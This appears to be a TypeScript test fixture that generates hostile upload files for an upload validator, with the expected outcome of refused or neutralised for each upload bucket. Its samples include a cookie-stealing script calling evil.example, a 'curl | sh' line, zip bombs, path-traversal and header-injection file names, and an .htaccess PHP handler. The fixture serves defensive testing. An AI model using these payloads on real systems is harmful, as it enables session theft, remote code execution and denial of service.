// Disguised and hostile files, generated here so nothing dangerous is committed as a blob. Each
// says what must happen in each bucket: refused, or stored and neutralised (served only as an
// attachment, with nosniff, under the type read from its bytes and a name the server chose).
import { crc32, deflateRawSync } from 'node:zlib';

export type Outcome = 'refused' | 'neutralised';

export interface HostileFile {
	label: string;
	/** The name the browser sends; hostile names are part of the corpus. */
	name: string;
	/** The type the browser claims; never trusted. */
	claimedType: string;
	bytes: () => Bytes;
	/** group-files (sponsor groups) and resolution-files (campaigns) accept different types. */
	group: Outcome;
	campaign: Outcome;
	/** For stored files: what the shown name must be once cleaned. */
	storedName?: (name: string) => boolean;
}

type Bytes = Uint8Array<ArrayBuffer>;

/** A copy in a plain ArrayBuffer, which is what File and Blob accept. */
function own(bytes: Uint8Array): Bytes {
	const copy = new Uint8Array(bytes.byteLength);
	copy.set(bytes);
	return copy;
}

const text = (value: string): Bytes => own(new TextEncoder().encode(value));
const concat = (...parts: Uint8Array[]): Bytes => own(Buffer.concat(parts));

const SCRIPT = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';
const HTML = `<!doctype html><html><body><h1>Invoice</h1>${SCRIPT}</body></html>`;
const SVG =
	'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' +
	`${SCRIPT}<circle r="5"/></svg>`;

export const PDF = text(
	'%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n' +
		'2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'
);
const PNG = Uint8Array.from([
	0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1,
	0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89, 0, 0, 0, 0, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42,
	0x60, 0x82
]);
const JPEG = Uint8Array.from([
	0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xff, 0xd9
]);

/** A Windows executable: MZ header whose e_lfanew points at a PE signature. */
function windowsExecutable(): Bytes {
	const bytes = new Uint8Array(512);
	bytes.set(text('MZ'), 0);
	new DataView(bytes.buffer).setUint32(0x3c, 0x80, true);
	bytes.set(text('PE\0\0'), 0x80);
	new DataView(bytes.buffer).setUint16(0x84, 0x14c, true);
	return bytes;
}

function linuxExecutable(): Bytes {
	const bytes = new Uint8Array(128);
	bytes.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0);
	return bytes;
}

interface ZipEntry {
	name: string;
	/** The entry's content, or its size in zero bytes (for bombs: never held as text). */
	data: Uint8Array | number;
}

/** A minimal ZIP (deflate, no ZIP64) written by hand: what Office documents are made of. */
export function zip(entries: ZipEntry[]): Bytes {
	const locals: Buffer[] = [];
	const centrals: Buffer[] = [];
	let offset = 0;
	for (const entry of entries) {
		const raw = typeof entry.data === 'number' ? Buffer.alloc(entry.data) : Buffer.from(entry.data);
		const compressed = deflateRawSync(raw, { level: 9 });
		const name = Buffer.from(entry.name);
		const fields = { crc: crc32(raw), compressed: compressed.length, size: raw.length };
		const local = Buffer.alloc(30);
		local.writeUInt32LE(0x04034b50, 0);
		local.writeUInt16LE(20, 4);
		local.writeUInt16LE(8, 8);
		local.writeUInt32LE(fields.crc, 14);
		local.writeUInt32LE(fields.compressed, 18);
		local.writeUInt32LE(fields.size, 22);
		local.writeUInt16LE(name.length, 26);
		const central = Buffer.alloc(46);
		central.writeUInt32LE(0x02014b50, 0);
		central.writeUInt16LE(20, 4);
		central.writeUInt16LE(20, 6);
		central.writeUInt16LE(8, 10);
		central.writeUInt32LE(fields.crc, 16);
		central.writeUInt32LE(fields.compressed, 20);
		central.writeUInt32LE(fields.size, 24);
		central.writeUInt16LE(name.length, 28);
		central.writeUInt32LE(offset, 42);
		locals.push(local, name, compressed);
		centrals.push(central, name);
		offset += local.length + name.length + compressed.length;
	}
	const directory = Buffer.concat(centrals);
	const end = Buffer.alloc(22);
	end.writeUInt32LE(0x06054b50, 0);
	end.writeUInt16LE(entries.length, 8);
	end.writeUInt16LE(entries.length, 10);
	end.writeUInt32LE(directory.length, 12);
	end.writeUInt32LE(offset, 16);
	return own(Buffer.concat([...locals, directory, end]));
}

const WORD_TYPES =
	'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
	'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const SHEET_TYPES =
	'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
	'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>';

/** 256 MiB of zeros in a ~260 KB file: whatever unzips it runs out of memory or disk. */
const BOMB_BYTES = 256 * 1024 * 1024;

export const DOCX = () =>
	zip([
		{ name: '[Content_Types].xml', data: text(WORD_TYPES) },
		{ name: 'word/document.xml', data: text('<w:document/>') }
	]);

const isPlainName = (expected: string) => (name: string) => name === expected;

export const CORPUS: HostileFile[] = [
	{
		label: 'HTML with script renamed .pdf',
		name: 'invoice.pdf',
		claimedType: 'application/pdf',
		bytes: () => text(HTML),
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'HTML with script as .html',
		name: 'page.html',
		claimedType: 'text/html',
		bytes: () => text(HTML),
		group: 'refused',
		campaign: 'refused'
	},
	{
		// Group files accept plain text: it is stored as text/plain and only ever downloaded.
		label: 'HTML with script renamed .txt',
		name: 'notes.txt',
		claimedType: 'text/html',
		bytes: () => text(HTML),
		group: 'neutralised',
		campaign: 'refused',
		storedName: isPlainName('notes.txt')
	},
	{
		label: 'SVG with script and onload',
		name: 'logo.svg',
		claimedType: 'image/svg+xml',
		bytes: () => text(SVG),
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'SVG with script renamed .png',
		name: 'photo.png',
		claimedType: 'image/png',
		bytes: () => text(SVG),
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'Windows executable renamed .pdf',
		name: 'statement.pdf',
		claimedType: 'application/pdf',
		bytes: windowsExecutable,
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'Linux executable renamed .pdf',
		name: 'statement.pdf',
		claimedType: 'application/pdf',
		bytes: linuxExecutable,
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'shell script renamed .pdf',
		name: 'report.pdf',
		claimedType: 'application/pdf',
		bytes: () => text('#!/bin/sh\ncurl https://evil.example/x | sh\n'),
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'shell script as .sh',
		name: 'install.sh',
		claimedType: 'text/plain',
		bytes: () => text('#!/bin/sh\ncurl https://evil.example/x | sh\n'),
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'PDF/HTML polyglot',
		name: 'resolution.pdf',
		claimedType: 'application/pdf',
		bytes: () => concat(PDF, text(HTML)),
		group: 'neutralised',
		campaign: 'neutralised',
		storedName: isPlainName('resolution.pdf')
	},
	{
		label: 'PDF with an OpenAction JavaScript',
		name: 'signed.pdf',
		claimedType: 'application/pdf',
		bytes: () =>
			text(
				'%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n' +
					'2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'
			),
		group: 'neutralised',
		campaign: 'neutralised'
	},
	{
		label: 'JPEG with a ZIP appended (GIFAR-style polyglot)',
		name: 'photo.jpg',
		claimedType: 'image/jpeg',
		bytes: () => concat(JPEG, DOCX()),
		group: 'neutralised',
		campaign: 'neutralised'
	},
	{
		label: 'PNG with HTML appended',
		name: 'scan.png',
		claimedType: 'image/png',
		bytes: () => concat(PNG, text(HTML)),
		group: 'neutralised',
		campaign: 'neutralised'
	},
	{
		label: 'JPEG magic bytes followed by HTML',
		name: 'portrait.jpg',
		claimedType: 'image/jpeg',
		bytes: () => concat(Uint8Array.from([0xff, 0xd8, 0xff, 0xdb]), text(HTML)),
		group: 'neutralised',
		campaign: 'neutralised'
	},
	{
		label: 'DOCX zip bomb (256 MiB document.xml)',
		name: 'report.docx',
		claimedType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
		bytes: () =>
			zip([
				{ name: '[Content_Types].xml', data: text(WORD_TYPES) },
				{ name: 'word/document.xml', data: BOMB_BYTES }
			]),
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'XLSX zip bomb (256 MiB sheet)',
		name: 'budget.xlsx',
		claimedType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
		bytes: () =>
			zip([
				{ name: '[Content_Types].xml', data: text(SHEET_TYPES) },
				{ name: 'xl/worksheets/sheet1.xml', data: BOMB_BYTES }
			]),
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'zip bomb in [Content_Types].xml itself',
		name: 'report.docx',
		claimedType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
		bytes: () => zip([{ name: '[Content_Types].xml', data: BOMB_BYTES }]),
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'many-entry zip (10,000 empty parts) renamed .docx',
		name: 'report.docx',
		claimedType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
		bytes: () =>
			zip([
				{ name: '[Content_Types].xml', data: text(WORD_TYPES) },
				...Array.from({ length: 10_000 }, (_, i) => ({ name: `word/p${i}.xml`, data: text('') }))
			]),
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'plain zip renamed .docx',
		name: 'report.docx',
		claimedType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
		bytes: () => zip([{ name: 'payload.exe', data: windowsExecutable() }]),
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'name with ../ path traversal',
		name: '../../../../etc/cron.d/passwd.pdf',
		claimedType: 'application/pdf',
		bytes: () => PDF,
		group: 'neutralised',
		campaign: 'neutralised',
		storedName: isPlainName('passwd.pdf')
	},
	{
		label: 'name with Windows ..\\ traversal',
		name: '..\\..\\Windows\\System32\\evil.pdf',
		claimedType: 'application/pdf',
		bytes: () => PDF,
		group: 'neutralised',
		campaign: 'neutralised',
		storedName: isPlainName('evil.pdf')
	},
	{
		label: 'name with NUL before a second extension',
		name: 'report.pdf\u0000.html',
		claimedType: 'application/pdf',
		bytes: () => PDF,
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'very long name (5,000 characters)',
		name: `${'a'.repeat(5000)}.pdf`,
		claimedType: 'application/pdf',
		bytes: () => PDF,
		group: 'neutralised',
		campaign: 'neutralised',
		storedName: (name) => name.length <= 200 && name.endsWith('.pdf')
	},
	{
		label: 'right-to-left override hiding .exe',
		name: 'invoice\u202Efdp.exe',
		claimedType: 'application/pdf',
		bytes: () => PDF,
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'CR/LF header injection in the name',
		name: 'a\r\nContent-Type: text/html\r\n\r\n<script>x</script>.pdf',
		claimedType: 'application/pdf',
		bytes: () => PDF,
		group: 'neutralised',
		campaign: 'neutralised',
		storedName: (name) => !/[\r\n]/.test(name) && name.endsWith('.pdf')
	},
	{
		label: 'dot file (.htaccess)',
		name: '.htaccess',
		claimedType: 'text/plain',
		bytes: () => text('AddType application/x-httpd-php .pdf\n'),
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'double extension photo.jpg.exe',
		name: 'photo.jpg.exe',
		claimedType: 'image/jpeg',
		bytes: () => JPEG,
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'UTF-16 text (NUL bytes) as .txt',
		name: 'notes.txt',
		claimedType: 'text/plain',
		bytes: () => own(Buffer.from('\ufeffhello', 'utf16le')),
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'empty file named .pdf',
		name: 'empty.pdf',
		claimedType: 'application/pdf',
		bytes: () => new Uint8Array(0),
		group: 'refused',
		campaign: 'refused'
	},
	{
		label: 'over the 10 MB limit',
		name: 'big.pdf',
		claimedType: 'application/pdf',
		bytes: () => concat(PDF, new Uint8Array(10 * 1024 * 1024)),
		group: 'refused',
		campaign: 'refused'
	}
];

/** Not hostile: proof that the checks still let an ordinary Word document through. */
export const ORDINARY_DOCX: HostileFile = {
	label: 'an ordinary DOCX (control)',
	name: 'minutes.docx',
	claimedType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
	bytes: DOCX,
	group: 'neutralised',
	campaign: 'neutralised',
	storedName: isPlainName('minutes.docx')
};
